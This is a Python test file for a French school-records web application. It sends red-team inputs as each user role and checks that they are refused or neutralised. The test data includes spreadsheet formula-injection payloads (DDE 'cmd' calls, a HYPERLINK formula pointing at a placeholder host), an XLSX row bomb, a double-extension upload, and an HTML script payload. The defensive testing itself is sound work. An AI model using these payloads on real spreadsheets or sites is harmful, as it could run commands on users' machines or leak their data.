"""Hostile input, as every persona, through HTTP (issue 13): nothing is stored or changed that should not be.

Each payload of the red-team is sent by each persona of tests/personas.py (administration, the class's teacher, a
teacher of another establishment, a professional, the student, another student of the class, an anonymous
visitor). Whoever may not use the page is refused (302 to the login page, 403 or 404) and changes nothing; whoever
may gets a French answer and, again, nothing changes that should not:

- a giant rubric (50,000 characters) on the student's fiche, by the editor and by the autosave;
- a « row bomb » XLSX (one cell on row 1,048,576) and a cross-class / cross-establishment CSV on the student import;
- a double extension (« rapport.pdf.bat » holding a PDF) and an HTML page named « x.html » on the evidence upload;
- formula prefixes in a student's name: whoever may import stores the name as typed, and no export carries it as a
  live formula (CSV cells start with « ' », XLSX cells are text, never formulas).
"""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from accounts.models import Student, User
from accounts.tests.import_helpers import confirm_form, has_confirm_form
from passeport.models import Evidence, Fiche, FicheVersion
from tests.access import PERSONAS, user_of
from tests.factories import make_activity, make_fiche
from tests.factories_certification_commissions import make_commission
from tests.personas import PASSWORD, make_student

GIANT = "Texte collé depuis un traitement de texte. " * 1200  # about 50,000 characters
FORMULAS = [
    '=HYPERLINK("http://exemple.invalid/?"&D2;"clic")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
REFUSED = {302, 401, 403, 404}  # 401: the fiche autosave tells its script the session expired


def client_of(cast, persona: str) -> Client:
    client = Client()
    user = user_of(cast, persona)
    if user is not None:
        assert client.login(username=user.username, password=PASSWORD)
    return client


def fiche_state(fiche: Fiche) -> tuple:
    fiche = Fiche.objects.get(pk=fiche.pk)
    return fiche.version, fiche.title, fiche.recto, FicheVersion.objects.filter(fiche=fiche).count()


def people_state() -> tuple:
    students = Student.objects.select_related("user").order_by("pk")
    return tuple(
        (s.pk, s.cohort_id, s.candidate_number, s.user.email, s.user.last_name, s.user.first_name, s.user.password)
        for s in students
    ), User.objects.count()


@pytest.mark.parametrize("persona", PERSONAS)
def test_a_giant_rubric_is_refused_and_nothing_is_lost_or_stored(cast, persona):
    fiche = make_fiche(cast.student)
    before = fiche_state(fiche)
    data = {"base_version": fiche.version, "title": fiche.title, "kind": fiche.kind_id}
    data.update({f"recto__{code}": text for code, text in fiche.recto.items()})
    data["recto__historique"] = GIANT
    client = client_of(cast, persona)
    response = client.post(reverse("passeport:fiche_edit", args=[fiche.pk]), data)
    autosave = client.post(reverse("passeport:fiche_autosave", args=[fiche.pk]), data)
    assert fiche_state(fiche) == before
    if persona == "student":
        assert response.status_code == 200
        page = response.content.decode()
        assert "pour une limite de" in page and GIANT.strip()[:200] in page  # the text comes back, nothing lost
        assert autosave.status_code == 400
    else:
        assert response.status_code in REFUSED and autosave.status_code in REFUSED


def _row_bomb() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert isinstance(sheet, Worksheet)
    sheet.append(["Nom", "Prénom", "Email"])
    sheet["A1048576"] = "x"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("persona", PERSONAS)
def test_a_row_bomb_xlsx_is_refused_early_and_imports_nothing(cast, persona):
    before = people_state()
    upload = SimpleUploadedFile(
        "eleves.xlsx", _row_bomb(), content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    response = client_of(cast, persona).post(
        reverse("accounts:student_import", args=[cast.cohort.pk]), {"file": upload}
    )
    assert people_state() == before
    if persona in ("admin", "teacher"):
        assert response.status_code == 200
        assert "/confirmer/" not in response.content.decode()  # no confirmation offered
    else:
        assert response.status_code in REFUSED


@pytest.mark.parametrize("persona", PERSONAS)
def test_cross_class_and_cross_establishment_rows_are_never_applied(cast, persona):
    nina = make_student("nina", "Nina", "Simon", cast.first_year, "0249")  # a class cast.teacher does not teach
    zoe = cast.other_student  # another establishment
    zoe.candidate_number = "0777"
    zoe.save(update_fields=["candidate_number"])

    def watched() -> dict[int, tuple]:
        students = Student.objects.select_related("user").filter(pk__in=[nina.pk, zoe.pk])
        return {s.pk: (s.cohort_id, s.user.email, s.user.last_name, s.user.password) for s in students}

    before = watched()
    text = "Nom;Prénom;Email;N° candidat\nPirate;Pierre;pirate@example.org;0249\nPirate;Paul;paul@example.org;0777\n"
    client = client_of(cast, persona)
    url = reverse("accounts:student_import", args=[cast.cohort.pk])
    file = SimpleUploadedFile("eleves.csv", text.encode(), content_type="text/csv")
    response = client.post(url, {"file": file})
    preview = _staged_preview(client, response)
    if preview is not None and has_confirm_form(preview):
        client.post(*confirm_form(preview))
    after = watched()
    # Zoé belongs to another establishment: nobody here may touch her. Nina is outside the teacher's classes; only
    # the administration may move a student of another class of its establishment.
    assert after[zoe.pk] == before[zoe.pk]
    if persona != "admin":
        assert after[nina.pk] == before[nina.pk]
    if persona not in ("admin", "teacher"):
        assert response.status_code in REFUSED


def _staged_preview(client: Client, response):
    """The preview page an accepted upload redirects to (None when the upload was refused)."""
    if response.status_code == 302 and "/importer/" in response.url:
        return client.get(response.url)
    return None


def _pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"


@pytest.mark.parametrize("persona", PERSONAS)
@pytest.mark.parametrize(
    ("name", "content"), [("rapport.pdf.bat", _pdf()), ("x.html", b"<html><script>alert(1)</script></html>")]
)
def test_double_extensions_and_html_never_reach_the_disk_under_their_name(
    cast, persona, name, content, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    activity = make_activity(cast.student)
    upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
    response = client_of(cast, persona).post(
        reverse("passeport:evidence_upload", args=[activity.pk]), {"files": [upload]}
    )
    stored = list(Evidence.objects.filter(activity=activity))
    assert response.status_code < 500
    for evidence in stored:
        assert evidence.original_name.lower().endswith(".pdf"), evidence.original_name
        assert evidence.file.name.lower().endswith(".pdf")
        assert evidence.content_type == "application/pdf"
    if persona != "student":
        assert stored == []
    if name == "x.html":
        assert stored == []  # not an accepted type, whatever its name
    if persona == "student" and name.endswith(".bat"):
        # The PDF itself is legitimate: kept under the detected type's extension, or refused with a French message.
        assert stored or "extension" in response.content.decode()


@pytest.mark.parametrize("persona", PERSONAS)
def test_formula_prefixes_in_names_never_become_live_formulas_in_exports(cast, persona):
    commission = make_commission(cast)
    lines = "".join(f"Nom{i};{formula};eleve{i}@example.org\n" for i, formula in enumerate(FORMULAS))
    client = client_of(cast, persona)
    url = reverse("accounts:student_import", args=[cast.cohort.pk])
    before = people_state()
    file = SimpleUploadedFile("eleves.csv", ("Nom;Prénom;Email\n" + lines).encode())
    response = client.post(url, {"file": file})
    preview = _staged_preview(client, response)
    if preview is not None and has_confirm_form(preview):
        client.post(*confirm_form(preview))
        assert people_state() != before  # the import did happen: the exports below read what it stored
    if persona not in ("admin", "teacher"):
        assert people_state() == before
    # Whatever was stored, the exports (read by the class's teacher) never carry a live formula.
    reader = client_of(cast, "teacher")
    csv_bytes = reader.get(reverse("certification:commission_export", args=[commission.pk, "csv"])).content
    for row in csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig")), delimiter=";"):
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", row
    xlsx = reader.get(reverse("certification:commission_export", args=[commission.pk, "xlsx"])).content
    assert zipfile.is_zipfile(io.BytesIO(xlsx))
    for cells in load_workbook(io.BytesIO(xlsx)).active.iter_rows():
        for written in cells:
            assert written.data_type != "f", written.value
            if isinstance(written.value, str):
                assert written.value[:1] not in "=+-@\t\r", written.value
